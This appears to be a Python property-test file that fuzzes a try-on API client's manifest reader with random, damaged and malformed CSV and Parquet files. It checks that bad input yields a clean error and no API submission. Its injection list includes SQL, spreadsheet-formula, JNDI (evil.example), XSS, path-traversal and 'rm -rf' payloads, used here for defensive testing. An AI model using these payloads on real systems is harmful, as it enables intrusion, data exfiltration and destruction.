"""Scenario 4: hostile manifests. Property tests over the manifest reader and validator.

Random bytes, CSV files built from hostile cells and then truncated, re-encoded or
corrupted, and Parquet files with wrong types, huge values and broken bytes. Whatever
the file, reading and validating it ends in a :class:`ManifestError` with a clear
one-line message, or in a validation report whose valid rows form a plan; never in any
other exception. Through the real flow, a manifest that is not valid is refused before
anything reaches the API (the emulator counts zero ``POST /v1/run``).

These run in ``make test`` (unmarked) as well as in ``make reliability``; they take
seconds.
"""

from __future__ import annotations

import codecs
import csv
import gzip
import io
import math
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fashn_prefect.run.manifest import ManifestError, read_manifest
from fashn_prefect.run.plan import make_plan
from fashn_prefect.run.validate import ValidationReport, validate_manifest

MODELS = ["tryon-v1.6", "tryon-max", "model-create", "background-remove", "no-such-model", ""]
COLUMNS = [
    "row_id",
    "model_name",
    "model_image",
    "garment_image",
    "category",
    "mode",
    "seed",
    "num_samples",
    "segmentation_free",
    "return_base64",
    "prompt",
    "sku",
]
INJECTION = [
    "'; DROP TABLE results; --",
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "=cmd|' /C calc'!A0",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "/etc/shadow",
    "file:///etc/passwd",
    "C:\\Windows\\system32",
    "$(rm -rf /)",
    "`id`",
    "\u202eexe.png",
    "emulator-fail:PoseError",
    "saved:../../x",
    "data:image/png;base64,AAAA",
    "data:text/html,<b>x</b>",
    "http://127.0.0.1:9/x.png",
    "https://user:pass@127.0.0.1:9/x.png",
    "nan",
    "inf",
    "-0",
    "1e309",
    "9" * 400,
    "-" + "9" * 30,
    "0x1F",
    "true",
    "NULL",
    " ",
    "\t",
]
TEXT = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40)
CELL = st.one_of(
    st.sampled_from(INJECTION),
    st.sampled_from(MODELS),
    st.sampled_from(["tops", "bottoms", "auto", "quality", "performance", "1", "4", "yes"]),
    st.integers(min_value=-(2**70), max_value=2**70).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    TEXT,
)
# Derandomized so every CI run checks the same examples (no flaky red builds); run with
# --hypothesis-seed=random (or edit this) to explore new ones locally.
FAST = settings(
    max_examples=150,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)


OUTCOMES: Counter[str] = Counter()


@pytest.fixture(scope="module", autouse=True)
def _hostile_report(report: Any) -> Iterator[None]:
    yield
    if OUTCOMES:
        result = report.scenario("4 hostile input")
        result.counts.update(
            {
                "rows": OUTCOMES["valid_rows_planned"] + OUTCOMES["invalid_rows_reported"],
                "faults injected": f"{OUTCOMES['examples'] + OUTCOMES['flows_refused']} files",
                "retries": 0,
                "duplicates": 0,
                "bytes stored": 0,
            }
        )
        result.figures.update(dict(sorted(OUTCOMES.items())))
        result.invariants.update({"error_or_plan": "ok", "no_submission": "ok"})


def _outcome(path: Path, tmp: Path, model_name: str | None = None) -> str:
    """Read + validate + plan ``path``: 'error' or 'ok'. Any other exception fails."""
    OUTCOMES["examples"] += 1
    try:
        manifest = read_manifest(str(path))
    except ManifestError as exc:
        message = str(exc)
        assert message and "Traceback" not in message, message
        assert len(message) < 2000 and message.count("\n") <= 1, message
        OUTCOMES["file_errors"] += 1
        return "error"
    report = validate_manifest(manifest, model_name=model_name)
    _check_report(report, len(manifest.rows))
    plan = make_plan(report.rows, str(tmp / "out"))
    assert [j.action for j in plan.rows] == ["submit"] * len(report.rows)
    assert plan.estimated_credits >= 0
    OUTCOMES["reports"] += 1
    OUTCOMES["valid_rows_planned"] += len(report.rows)
    OUTCOMES["invalid_rows_reported"] += len(report.invalid_rows)
    return "ok"


def _check_report(report: ValidationReport, rows: int) -> None:
    assert report.total_rows == rows
    text = report.format(50)
    assert "Traceback" not in text
    assert len(report.rows) + len(report.invalid_rows) == rows
    for problem in report.errors:
        assert problem.message.strip()
    for spec in report.rows:
        assert spec.row_key and isinstance(spec.row_key, str)
        # A model the catalogue does not know is a pass-through, marked as such.
        assert spec.model_name in MODELS or not spec.catalogued
        assert isinstance(spec.estimated_credits, int) and spec.estimated_credits >= 0
        assert len(spec.inputs_hash) == 64


@st.composite
def csv_bytes(draw: st.DrawFn) -> bytes:
    """A CSV built from hostile cells, then maybe truncated, re-encoded or corrupted."""
    columns = draw(st.lists(st.one_of(st.sampled_from(COLUMNS), TEXT), min_size=1, max_size=8))
    rows = draw(st.lists(st.lists(CELL, min_size=0, max_size=10), max_size=6))
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(columns)
    writer.writerows(rows)
    text = buffer.getvalue()
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "latin-1", "utf-16", "cp1252"]))
    data = text.encode(encoding, errors="replace")
    damage = draw(st.sampled_from(["none", "truncate", "flip", "nul", "gzip", "gzip-cut"]))
    if damage == "truncate" and data:
        data = data[: draw(st.integers(0, len(data)))]
    elif damage == "flip" and data:
        at = draw(st.integers(0, len(data) - 1))
        data = data[:at] + bytes([data[at] ^ draw(st.integers(1, 255))]) + data[at + 1 :]
    elif damage == "nul":
        data = data.replace(b",", b"\x00", 1)
    elif damage == "gzip":
        data = gzip.compress(data)
    elif damage == "gzip-cut":
        data = gzip.compress(data)[: max(2, len(data) // 3)]
    return data


@st.composite
def parquet_bytes(draw: st.DrawFn) -> bytes:
    """A Parquet file whose columns have random (often wrong) types, maybe corrupted."""
    n = draw(st.integers(1, 5))
    names = draw(
        st.lists(st.one_of(st.sampled_from(COLUMNS), TEXT), min_size=1, max_size=6, unique=True)
    )
    arrays = []
    for _ in names:
        kind = draw(st.sampled_from(["str", "int", "float", "bool", "list", "bytes", "null", "ts"]))
        if kind == "str":
            values: list[Any] = draw(st.lists(st.one_of(CELL, st.none()), min_size=n, max_size=n))
            arrays.append(pa.array(values, pa.string()))
        elif kind == "int":
            values = draw(st.lists(st.integers(-(2**63), 2**63 - 1), min_size=n, max_size=n))
            arrays.append(pa.array(values, pa.int64()))
        elif kind == "float":
            values = draw(st.lists(st.floats(), min_size=n, max_size=n))
            arrays.append(pa.array(values, pa.float64()))
        elif kind == "bool":
            arrays.append(pa.array(draw(st.lists(st.booleans(), min_size=n, max_size=n))))
        elif kind == "list":
            values = draw(st.lists(st.lists(st.integers(0, 9), max_size=3), min_size=n, max_size=n))
            arrays.append(pa.array(values, pa.list_(pa.int64())))
        elif kind == "bytes":
            values = draw(st.lists(st.binary(max_size=20), min_size=n, max_size=n))
            arrays.append(pa.array(values, pa.binary()))
        elif kind == "ts":
            values = draw(st.lists(st.integers(-(2**62), 2**62), min_size=n, max_size=n))
            arrays.append(pa.array(values, pa.timestamp("ns")))
        else:
            arrays.append(pa.nulls(n))
    buffer = io.BytesIO()
    pq.write_table(pa.Table.from_arrays(arrays, names=names), buffer)
    data = buffer.getvalue()
    damage = draw(st.sampled_from(["none", "none", "truncate", "flip"]))
    if damage == "truncate":
        data = data[: draw(st.integers(0, len(data) - 1))]
    elif damage == "flip":
        at = draw(st.integers(0, len(data) - 1))
        data = data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]
    return data


@FAST
@given(data=st.binary(max_size=400), suffix=st.sampled_from([".csv", ".parquet", ".tsv"]))
def test_random_bytes_give_an_error_or_a_plan(tmp_path: Path, data: bytes, suffix: str) -> None:
    path = tmp_path / f"manifest{suffix}"
    path.write_bytes(data)
    _outcome(path, tmp_path)


@FAST
@given(data=csv_bytes(), model=st.sampled_from([None, "tryon-v1.6", "bogus"]))
def test_hostile_csv_gives_an_error_or_a_plan(
    tmp_path: Path, data: bytes, model: str | None
) -> None:
    path = tmp_path / "manifest.csv"
    path.write_bytes(data)
    _outcome(path, tmp_path, model)


@FAST
@given(data=parquet_bytes(), model=st.sampled_from([None, "tryon-v1.6"]))
def test_hostile_parquet_gives_an_error_or_a_plan(
    tmp_path: Path, data: bytes, model: str | None
) -> None:
    path = tmp_path / "manifest.parquet"
    path.write_bytes(data)
    _outcome(path, tmp_path, model)


@FAST
@given(
    values=st.fixed_dictionaries(
        {c: st.one_of(CELL, st.none()) for c in ["seed", "num_samples", "category", "mode"]}
    )
)
def test_hostile_values_in_a_valid_shape_never_pass_unchecked(
    tmp_path: Path, values: dict[str, str | None]
) -> None:
    """A well-formed try-on row with hostile option values: rejected per row, or typed."""
    row = {
        "row_id": "r1",
        "model_name": "tryon-v1.6",
        "model_image": "http://127.0.0.1:9/m.png",
        "garment_image": "http://127.0.0.1:9/g.png",
        **{k: v for k, v in values.items() if v is not None},
    }
    path = tmp_path / "manifest.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(row))
        writer.writeheader()
        writer.writerow(row)
    OUTCOMES["examples"] += 1
    try:
        manifest = read_manifest(str(path))
    except ManifestError as exc:  # e.g. a NUL byte in a cell: the file is refused as a whole
        assert "\n" not in str(exc) and str(path) in str(exc), str(exc)
        OUTCOMES["file_errors"] += 1
        return
    report = validate_manifest(manifest)
    _check_report(report, 1)
    OUTCOMES["reports"] += 1
    OUTCOMES["valid_rows_planned"] += len(report.rows)
    OUTCOMES["invalid_rows_reported"] += len(report.invalid_rows)
    for spec in report.rows:
        seed = spec.inputs.get("seed")
        assert seed is None or (isinstance(seed, int) and 0 <= seed < 2**32), seed
        samples = spec.inputs.get("num_samples")
        assert samples is None or (isinstance(samples, int) and 1 <= samples <= 4), samples
        assert spec.inputs.get("category", "tops") in ("auto", "tops", "bottoms", "one-pieces")
        for value in spec.inputs.values():
            assert not (isinstance(value, float) and not math.isfinite(value))


# --------------------------------------------------------------------------- through the flow

HOSTILE_FILES: dict[str, bytes] = {
    "truncated.csv": b"row_id,model_name,model_image,garment_image\nr1,tryon-v1.6,http://127.0.0.1",
    "latin1.csv": "row_id,model_name,model_image,garment_image,sku\nr1,tryon-v1.6,a,b,caf\u00e9\n".encode(
        "latin-1"
    ),
    "utf16.csv": "row_id,model_name\nr1,tryon-v1.6\n".encode("utf-16"),
    "wrong-types.csv": b"row_id,model_name,model_image,garment_image,seed,num_samples\n"
    b"r1,tryon-v1.6,IMG,IMG,-5,999999999999999999999\n",
    "injection.csv": b"row_id,model_name,model_image,garment_image,category\n"
    b"r1,tryon-v1.6,IMG,IMG,'; DROP TABLE x;--\n",
    "unknown-model.csv": b"row_id,model_name,model_image,garment_image\n"
    b"r1,=cmd|' /C calc'!A0,IMG,IMG\n",
    "broken.parquet": codecs.encode(b"PAR1 not really", "hex"),
}


@pytest.mark.reliability
@pytest.mark.parametrize("name", sorted(HOSTILE_FILES))
async def test_hostile_manifest_is_refused_before_any_submission(
    prefect_harness: None, tmp_path: Path, secret_key: str, fashn_emulator_factory: Any, name: str
) -> None:
    from fashn_prefect import ManifestInvalid, run_manifest
    from fashn_prefect.credentials import FashnCredentials

    emu = fashn_emulator_factory(api_keys=(secret_key,), time_scale=0.01)
    image = emu.put_file("m.png", _png(), "image/png")
    path = tmp_path / name
    path.write_bytes(HOSTILE_FILES[name].replace(b"IMG", image.encode()))
    with pytest.raises((ManifestInvalid, ManifestError)) as caught:
        await run_manifest(
            str(path),
            str(tmp_path / "out"),
            credentials=FashnCredentials(api_key=secret_key, base_url=emu.url),
            shared_limits=False,
        )
    stats = emu.stats()
    OUTCOMES["flows_refused"] += 1
    OUTCOMES["flow_submissions"] += len(stats["predictions"])
    assert stats["predictions"] == [], name
    assert sum(v.get("run", 0) for v in stats["requests"].values()) == 0
    assert secret_key not in str(caught.value) and secret_key not in repr(caught.value)
    assert not (tmp_path / "out" / "images").exists()


def _png() -> bytes:
    from fashn_prefect.cli.demo_images import model

    return model(0)[1]
